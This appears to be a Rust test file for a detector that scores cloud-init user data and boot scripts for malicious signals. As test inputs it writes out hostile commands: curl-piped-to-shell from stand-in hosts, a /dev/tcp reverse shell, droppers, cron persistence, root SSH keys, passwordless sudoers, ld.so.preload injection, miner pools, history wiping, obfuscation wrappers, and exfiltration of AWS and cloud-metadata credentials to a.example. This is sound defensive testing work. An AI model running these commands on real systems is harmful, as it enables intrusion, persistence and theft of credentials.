fn directives_are_judged_as_well() {
    let setting = |key: &str, value: &str| Content::Setting { key: key.into(), value: value.into() };
    let include = |url: &str| Content::Include { url: url.into() };
    let file = |target: &str, text: &str| Content::File { target: target.into(), text: text.into() };
    for (content, expected) in [
        (setting("packages", "tor"), "net-05"),
        (setting("packages", "masscan"), "net-07"),
        (setting("packages", "cpuminer"), "min-01"),
        (setting("users.sudo", "ALL=(ALL) NOPASSWD:ALL"), "per-04"),
        (setting("users.uid", "0"), "per-10"),
        (setting("chpasswd.list", "root:x"), "per-04"),
        (setting("users.ssh_authorized_keys", "https://a.example/k"), "per-03"),
        (setting("ca_certs.trusted", "-----BEGIN CERTIFICATE-----"), "sup-01"),
        (setting("apt.sources", "deb [trusted=yes] http://a.example/ ./"), "sup-01"),
        (setting("yum_repos", "[x]\nbaseurl=http://a.example/\ngpgcheck=False"), "sup-01"),
        (setting("phone_home.url", "http://203.0.113.1/"), "net-01"),
        (setting("settings.host-containers.a.image", "docker.io/a/xmrig:1"), "min-01"),
        (include("https://a.example/x"), "exe-07"),
        (include("https://pastebin.com/raw/x"), "net-02"),
        (include("http://203.0.113.1/x"), "net-01"),
        (file("/etc/ld.so.preload", "/lib/x.so"), "def-02"),
        (file("/root/.ssh/authorized_keys", "ssh-rsa AAAA"), "per-03"),
        (file("/etc/sudoers.d/x", "x ALL=(ALL) NOPASSWD: ALL"), "per-04"),
        (file("/etc/cron.d/x", "* * * * * root curl https://a.example/x | sh\n"), "per-01"),
        (file("/etc/systemd/system/x.service", "[Service]\nExecStart=/tmp/x\n"), "per-05"),
        (file("/etc/profile.d/x.sh", "/dev/shm/x &\n"), "per-05"),
        (file("/opt/x", "#!/bin/sh\ncurl https://a.example/x | sh\n"), "exe-01"),
        (file("/opt/c.json", "{\"url\": \"xmr.nanopool.org:14444\"}"), "min-03"),
        (file("/opt/compose.yml", "services:\n  a:\n    image: a/xmrig\n"), "min-01"),
        (file("/etc/environment", "BASH_ENV=/tmp/x\n"), "per-05"),
        (Content::Undecodable { reason: "gzip".into(), sha256: "00".into(), len: 2 }, "dec-02"),
        (Content::Odd { what: Odd::BuiltText, text: "'a' ~ 'b'".into() }, "dec-04"),
        (Content::Odd { what: Odd::Unrendered, text: "v1.x".into() }, "dec-04"),
        (Content::Odd { what: Odd::OverBound, text: "more than 64 parts".into() }, "dec-05"),
    ] {
        let judgement = judge(&[Piece { path: "here".into(), content: content.clone() }], 0, None, &trust());
        let found = judgement.findings.iter().find(|finding| finding.id == expected);
        assert!(
            found.is_some_and(|finding| finding.place.starts_with("here")),
            "{expected} not in {content:?}: {judgement:?}"
        );
    }
    for content in [
        setting("packages", "torque"),
        setting("ssh_authorized_keys", "ssh-ed25519 AAAA"),
        setting("apt.sources", "deb http://archive.ubuntu.com/ubuntu jammy main"),
        setting("yum_repos", "[x]\nbaseurl=https://repo.corp.internal/\ngpgcheck=0"),
        setting("chpasswd.list", "ubuntu:x"),
        include("https://get.corp.example/x"),
        include("s3://corp-boot-1/x"),
        include("http://10.0.0.1/x"),
        include("data:,x"),
        file("/etc/motd", "xmrig stratum"),
        file("/etc/hosts", "0.0.0.0 pool.minexmr.com"),
        file("/home/u/.ssh/authorized_keys", "ssh-rsa AAAA"),
        file("/opt/x", "curl https://a.example/x | sh\n"),
    ] {
        let judgement = judge(&[Piece { path: "here".into(), content: content.clone() }], 0, None, &trust());
        assert_eq!(judgement.conclusion, Conclusion::Clean, "{content:?}: {judgement:?}");
    }
}

#[test]
fn a_key_for_root_is_told_from_one_for_others() {
    let setting = |path: &str, key: &str, value: &str| Piece {
        path: path.into(),
        content: Content::Setting { key: key.into(), value: value.into() },
    };
    let pieces = |name: &str| {
        [
            setting("users[1].name", "users.name", name),
            setting("users[1].ssh_authorized_keys[0]", "users.ssh_authorized_keys", "ssh-rsa A"),
        ]
    };
    assert_eq!(ids(&judge(&pieces("root"), 0, None, &trust())), ["per-03"]);
    assert_eq!(ids(&judge(&pieces("deploy"), 0, None, &trust())), [] as [&str; 0]);
}

#[test]
fn layers_and_mismatches_count() {
    let pieces = script(Language::Shell, "true");
    assert_eq!(ids(&judge(&pieces, 3, None, &trust())), ["dec-01"]);
    assert_eq!(ids(&judge(&pieces, 2, None, &trust())), [] as [&str; 0]);
    assert_eq!(ids(&judge(&pieces, 0, Some("part 2: says text/plain"), &trust())), ["dec-01"]);
    let nested = script(Language::Shell, "echo ZWNobyBoaQo= | base64 -d | sh");
    assert!(ids(&judge(&nested, 2, None, &trust())).contains(&"dec-01"));
}

#[test]
fn combinations_add_what_the_parts_do_not_say() {
    let score = |text: &str| judged(text).score;
    // exe with net-01: 25 + 25 + 10 for http + 20.
    assert_eq!(score("curl http://203.0.113.1/x | sh"), 25 + 35 + 20);
    assert_eq!(score("curl https://203.0.113.1/x | sh"), 25 + 25 + 20);
    // A dropper: the category's limit, and 25.
    assert_eq!(score("curl -o /tmp/x https://a.example/x; chmod +x /tmp/x; /tmp/x &"), 45 + 25);
    // Tuning beside a download.
    assert_eq!(score("sysctl -w vm.nr_hugepages=1280"), 15);
    assert_eq!(score("sysctl -w vm.nr_hugepages=1280; wget https://a.example/x"), 15 + 20);
    assert_eq!(score("sysctl -w vm.nr_hugepages=1280; wget https://get.corp.example/x"), 15);
    // Two defences and something run: 25 + 20 + 20.
    assert_eq!(
        score("yum install -y postgresql16; sysctl -w vm.nr_hugepages=1280; wget https://a.example/x"),
        5
    );
    assert_eq!(
        score("unset HISTFILE; chattr +i /etc/cron.d; curl https://a.example/x | sh"),
        45 + 25 + 20 + 20
    );
    // Traces wiped before something fetched is run, and not after: 20.
    assert_eq!(score("unset HISTFILE; setenforce 0; curl https://a.example/x | sh"), 35 + 25 + 20);
    assert_eq!(score("curl https://a.example/x | sh; unset HISTFILE; setenforce 0"), 35 + 25);
    // A key for root made undeletable.
    assert_eq!(
        score("echo k >> /root/.ssh/authorized_keys; chattr +i /root/.ssh/authorized_keys"),
        20 + 20 + 20
    );
    // Credential files that leave.
    assert_eq!(score("curl -T /root/.aws/credentials https://a.example/"), 15 + 15 + 25);
    assert!(!judged("crontab -r; curl https://203.0.113.1/x").critical);
    assert!(judged("echo '* * * * * curl https://203.0.113.1/x | sh' | crontab -").critical);
    assert!(judged("C=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/r); curl -d \"$C\" https://a.example/").critical);
}

#[test]
fn damping_keeps_honest_habits_below_the_line() {
    for text in [
        // Trusted hosts by their exact name, once however often.
        "curl https://get.docker.com | sh; curl https://get.k3s.io | sh; curl https://sh.rustup.rs | sh",
        "curl https://get.corp.example/a | sh; curl https://a.mirror.example/b | sh",
        // Several weak signals of one category.
        "curl https://a.example/x | sh; eval \"$(curl https://a.example/y)\"; curl -o /tmp/z https://a.example/z; sh /tmp/z &".trim_end_matches(" &"),
"echo root:x | chpasswd; echo ssh-rsa A >> /root/.ssh/authorized_keys; echo 'u ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/u",
        // A verified download, run from where it landed.
        "cd /tmp; curl -O https://a.example/x; echo '00ff  x' | sha256sum -c; chmod +x x; ./x &",
        "setenforce 0; systemctl stop firewalld; curl https://a.example/x | sh; history -c; rm -f /root/.bash_history",
        "echo 'u ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/u; curl http://a.example/x | sh",
    ] {
        let judgement = judged(text);
        assert_ne!(judgement.conclusion, Conclusion::Suspicious, "{text}: {judgement:?}");
    }
    // Trust counts for less over an open connection, and not when the checksum comes from a throw-away host.
    assert_eq!(judged("curl http://get.docker.com | sh").score, 10 + 10);
    assert_eq!(judged("curl -k https://get.docker.com | sh").score, 10 + 10);
    assert!(judged("curl -O http://203.0.113.1/x; echo '00  x' | sha256sum -c; sh x").score >= 50);
}

#[test]
fn a_boot_is_judged_as_a_whole() {
    let shell = |path: &str, text: &str| Piece {
        path: path.into(),
        content: Content::Script { language: Language::Shell, text: text.into() },
    };
    let pieces = [
        shell("cloud-config > runcmd[0]", "'cd' '/opt'"),
        shell("cloud-config > runcmd[1]", "U=https://a.example/x"),
        shell("cloud-config > runcmd[2]", "true\nwget $U -O x"),
        shell("cloud-config > runcmd[3]", "chmod +x x"),
        shell("cloud-config > runcmd[4]", "true\n./x"),
    ];
    let judgement = judge(&pieces, 0, None, &trust());
    let found = judgement.findings.iter().find(|finding| finding.id == "exe-04").expect("exe-04");
    assert_eq!((found.place.as_str(), found.quote.as_str()), ("cloud-config > runcmd[4] > line 2", "./x"));

    let pieces = [
        Piece {
            path: "write_files[0]".into(),
            content: Content::File {
                target: "/opt/x".into(),
                text: "curl https://203.0.113.1/y | sh\n".into(),
            },
        },
        shell("runcmd[0]", "sh /opt/x"),
    ];
    let judgement = judge(&pieces, 0, None, &trust());
    assert_eq!(judgement.conclusion, Conclusion::Suspicious);
    assert!(
        judgement.findings.iter().any(|finding| finding.place == "write_files[0] > /opt/x > line 1"),
        "{judgement:?}"
    );
}

#[test]
fn findings_say_where_and_hide_secrets() {
    let text = "#!/bin/sh\nset -e\ncurl -u bob:hunter2 https://a.example/x | PASSWORD=tiger sh # \u{202e}\n";
    let finding = judged(text).findings.remove(0);
    assert_eq!(finding.place, "line 3");
    assert_eq!(finding.quote, "curl -u bob:<redacted> https://a.example/x | PASSWORD=<redacted> sh #");
    let nested = judged("true\necho Y3VybCBodHRwczovL2EuZXhhbXBsZS94IHwgc2gK | base64 -d | bash\n");
    let place =
        nested.findings.iter().find(|finding| finding.id == "exe-01").map(|finding| finding.place.as_str());
    assert_eq!(place, Some("line 2 > decoded > line 1"));
    let long = judged(&format!("curl https://a.example/{} | sh", "x".repeat(5000)));
    assert!(long.findings[0].quote.chars().count() <= 200);
}

#[test]
fn each_signal_counts_once_and_the_table_is_whole() {
    let judgement = judged("curl https://a.example/x | sh\n".repeat(20).as_str());
    assert_eq!((judgement.score, ids(&judgement).len()), (25, 1));
    let mut seen = std::collections::HashSet::new();
    for signal in SIGNALS {
        assert!(seen.insert(signal.id.as_str()), "{} twice", signal.id.as_str());
        assert!(
            !signal.attack.is_empty() && signal.attack.iter().all(|id| id.starts_with('T')),
            "{}",
            signal.id.as_str()
        );
        assert!(!signal.title.is_empty() && signal.why.ends_with('.'), "{}", signal.id.as_str());
    }
}

/// An example of the table as user data.
fn inspected(example: &str) -> crate::user_data::Inspection {
    let plain = !example.starts_with(['#', '<']) && !example.starts_with("Content-");
    let text = if plain { format!("#!/bin/sh\n{example}\n") } else { example.to_owned() };
    crate::user_data::inspect(text.as_bytes(), &Trust::default(), false)
}

#[test]
fn every_example_of_the_documentation_is_true() {
    let mut wrong = Vec::new();
    for signal in SIGNALS {
        let raised = |example: &str| {
            inspected(example).findings.iter().any(|finding| finding.id == signal.id.as_str())
        };
        // What passes a bound is too long to be shown; it has tests of its own.
        if signal.fires.is_empty() != matches!(signal.id, Id::Dec03 | Id::Dec05) {
            wrong.push(format!("{} has no example", signal.id.as_str()));
        }
        if !signal.fires.is_empty() && !raised(signal.fires) {
            wrong.push(format!("{} is not raised by: {}", signal.id.as_str(), signal.fires));
        }
        if raised(signal.quiet) {
            wrong.push(format!("{} is raised by: {}", signal.id.as_str(), signal.quiet));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// To write the page anew: `UPDATE_DOCS=1 cargo test --lib documentation_page`.
#[test]
fn the_documentation_page_is_what_the_table_writes() {
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/docs/user-data-signals.md");
    if std::env::var_os("UPDATE_DOCS").is_some() {
        std::fs::write(path, table::page()).unwrap();
    }
    let page = std::fs::read_to_string(path).unwrap_or_default();
    assert!(page == table::page(), "docs/user-data-signals.md is not what the table writes");
}

#[test]
fn no_input_is_slow_to_judge() {
    const SIZE: usize = 16 << 10;
    let many = |line: fn(usize) -> String| -> String {
        let lines = (0..).map(line).scan(0, |size, line| {
            *size += line.len();
            (*size < SIZE).then_some(line)
        });
        lines.collect()
    };
    // As for scanning: 50 ms in a release build, and a multiple of that in others.
    let limit = std::time::Duration::from_millis(if cfg!(debug_assertions) { 2_000 } else { 50 });
    for text in [
        many(|n| format!("wget http://h{n}.example/x{n}; sh x{n}\n")),
        many(|n| format!("echo a > /f{n}; sh /f{n}\n")),
        many(|n| format!("v{n}=$(curl http://h/$v{n}); eval $v{n}\n")),
        many(|n| format!("pkill $p{n}; kill $(pgrep x{n})\n")),
        many(|n| format!("sh >&{}; exec {}<>/dev/tcp/h/1\n", n % 200 + 3, n % 200 + 3)),
        many(|n| format!("curl https://h/$a{n} -d $b{n}; a{n}=$b{n}\n")),
        many(|n| format!("echo '* * * * * curl http://h{n}.example|sh' | crontab -\n")),
        many(|n| format!("tar xf a{n} -C /d{n}; /d{n}/run\n")),
        "xmrig ".repeat(SIZE / 6),
        "a.b.c.d.e.f.".repeat(SIZE / 12),
        "http://".repeat(SIZE / 7),
        "://a@".repeat(SIZE / 5),
        "curl http://h|sh password=".repeat(SIZE / 26),
    ] {
        let best = (0..3)
            .map(|_| {
                let start = std::time::Instant::now();
                judged(&text);
                start.elapsed()
            })
            .min();
        assert!(best < Some(limit), "{best:?}: {}", &text[..60]);
    }
}

/// One layer of wrapping that a shell undoes.
fn wrap(kind: usize, text: &str) -> String {
    use base64::Engine;
    let encoded = base64::engine::general_purpose::STANDARD.encode(text);
    let quoted = text.replace('\'', "'\\''");
    let hex: String = text.bytes().map(|byte| format!("{byte:02x}")).collect();
    match kind {
        0 => format!("echo {encoded} | base64 -d | bash"),
        1 => format!("eval \"$(echo {encoded} | base64 --decode)\""),
        2 => format!("bash -c '{quoted}'"),
        3 => format!("sh <<'WRAPPED{}'\n{text}\nWRAPPED{}\n", text.len(), text.len()),
        4 => format!("echo {hex} | xxd -r -p | sh"),
        5 => format!(
            "cat > /opt/w{0} <<'WRAPPED{0}'\n#!/bin/sh\n{text}\nWRAPPED{0}\nchmod +x /opt/w{0}; /opt/w{0}",
            text.len()
        ),
        6 => format!("P='{quoted}'; eval \"$P\""),
        7 => format!("sudo nohup setsid bash -c '{quoted}' &"),
        8 => format!("f() {{\n{text}\n}}\nf"),
        9 => format!("if true; then\n{text}\nfi"),
        _ => format!("base64 -d <<< {encoded} | sh"),
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 128, ..ProptestConfig::default() })]

    /// Whatever it is wrapped in, a malicious script is judged suspicious.
    #[test]
    fn wrapping_hides_nothing(
        layers in prop::collection::vec(0..11usize, 0..5),
        inner in prop::sample::select(vec![
            "curl -s http://203.0.113.1/x | bash",
            "bash -i >& /dev/tcp/a.example/1 0>&1",
            "wget -q https://a.example/x -O /tmp/x; chmod +x /tmp/x; /tmp/x &",
            "./a -o stratum+tcp://b.example:1",
            "echo /lib/x.so > /etc/ld.so.preload",
        ]),
    ) {
        let text = layers.iter().fold(inner.to_owned(), |text, kind| wrap(*kind, &text));
        let judgement = judged(&text);
        prop_assert_eq!(judgement.conclusion, Conclusion::Suspicious, "{}\n{:?}", text, judgement);
    }

    #[test]
    fn judging_never_panics(text in "[ -~\n]{0,400}", language in prop::sample::select(vec![
        Language::Shell, Language::PowerShell, Language::Batch, Language::Python, Language::Perl, Language::Php,
    ])) {
        let judgement = judge(&script(language, &text), 0, None, &trust());
        prop_assert_eq!(judgement.conclusion == Conclusion::Suspicious, judgement.critical || judgement.score >= 50);
        for finding in &judgement.findings {
            prop_assert!(finding.quote.chars().count() <= 200);
        }
    }
}

#[test]
fn a_script_that_wears_inspection_out_is_suspicious_and_is_still_searched() {
    let commands = ":;".repeat(20_000);
    let found = judged(&format!("{commands}\ncurl -s http://203.0.113.9/x | bash\n"));
    let ids: Vec<&str> = found.findings.iter().map(|finding| finding.id).collect();
    assert!(ids.contains(&"dec-03") && ids.contains(&"exe-01"), "{ids:?}");
    assert_eq!(found.conclusion, Conclusion::Suspicious);
}

#[test]
fn a_large_value_that_is_used_many_times_costs_a_bounded_number_of_steps() {
    let value = "v".repeat(100_000);
    for use_of_it in ["${#a} ", "${a:1:1} ", "$a ", "\"${a[@]}\" ", "${a/x/y} ", "cat f>>g\n", "crontab f\n"]
    {
        let text = format!("a={value}\necho $a > f\necho {}\n", use_of_it.repeat(5_000));
        let budget = Budget::for_text(text.len());
        let mut left = budget.clone();
        let script =
            script::scan_within(&mut left, &script::Known::default(), UnitKind::Root, Language::Shell, &text);
        assert!(script.over_bound, "{use_of_it}: 500 MB are not looked through");
    }
}
